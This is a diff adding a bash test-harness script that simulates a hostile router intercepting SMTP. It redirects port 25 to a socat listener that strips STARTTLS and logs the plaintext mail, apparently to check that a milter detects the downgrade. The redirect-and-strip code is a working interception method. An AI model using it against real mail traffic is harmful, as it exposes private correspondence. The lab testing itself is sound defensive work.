@@ -1,0 +1,30 @@
+# shellcheck shell=bash
+# attack.sh - the router's owner: takes over port 25 of some MX hosts, in the clear, and writes down what is said
+#
+# Without the milter the mail arrives all the same, so nobody notices; it stands in $W/log/attacker too.
+
+attack_up() {
+	local name
+	: >"$W/log/attacker"
+	in_router nft -f - <<-N
+		table ip attack {
+			set victims { type ipv4_addr; }
+			chain prerouting {
+				type nat hook prerouting priority dstnat;
+				ip daddr @victims tcp dport 25 redirect to :2525
+			}
+		}
+	N
+	for name in "${!MX_WHAT[@]}"; do
+		[ "${MX_WHAT[$name]}" != attacked ] || attack_on "$name"
+	done
+	in_router socat TCP-LISTEN:2525,fork,reuseaddr \
+		"EXEC:$lab/strip-starttls $W/log/attacker ${MX_ADDRESS[stripped]}" 2>"$W/log/socat-attacker" </dev/null &
+	wait_for "the attacker" answers "25@${MX_ADDRESS[forged]}"
+}
+
+attack_on() { in_router nft add element ip attack victims "{ ${MX_ADDRESS[$1]} }"; }
+attack_off() { in_router nft delete element ip attack victims "{ ${MX_ADDRESS[$1]} }"; }
+
+# attack_saw TOKEN: the attacker has read that message
+attack_saw() { grep -q -- "$1" "$W/log/attacker"; }
